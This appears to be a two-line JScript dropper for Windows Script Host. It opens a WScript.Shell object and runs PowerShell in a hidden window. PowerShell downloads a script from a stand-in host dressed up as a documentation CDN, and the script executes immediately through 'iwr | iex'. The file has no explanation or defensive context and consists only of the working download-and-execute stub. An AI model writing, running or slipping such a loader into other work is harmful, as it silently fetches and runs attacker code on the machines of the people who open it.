var s = new ActiveXObject("WScript.Shell");
s.Run("powershell -w hidden -c iwr https://cdn.js-doc.example/a.ps1 | iex", 0);
